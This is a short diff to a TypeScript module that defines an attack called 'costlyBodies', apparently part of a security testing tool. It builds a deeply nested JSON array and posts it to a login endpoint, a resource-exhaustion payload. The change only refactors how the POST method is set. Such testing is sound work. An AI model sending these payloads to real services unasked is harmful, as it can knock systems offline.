@@ -24,7 +24,7 @@ export const costlyBodies = defineAttack({
   async run(target) {
     const json = '['.repeat(DEPTH) + ']'.repeat(DEPTH);
     const headers = { 'content-type': 'application/json', 'content-length': String(json.length) };
-    const post = (path: string) => rawRequest(path, headers).replace('GET', 'POST') + json;
+    const post = (path: string) => rawRequest(path, headers, 'POST') + json;
     const login = post('/api/users/login');
     const requests = [
       login,
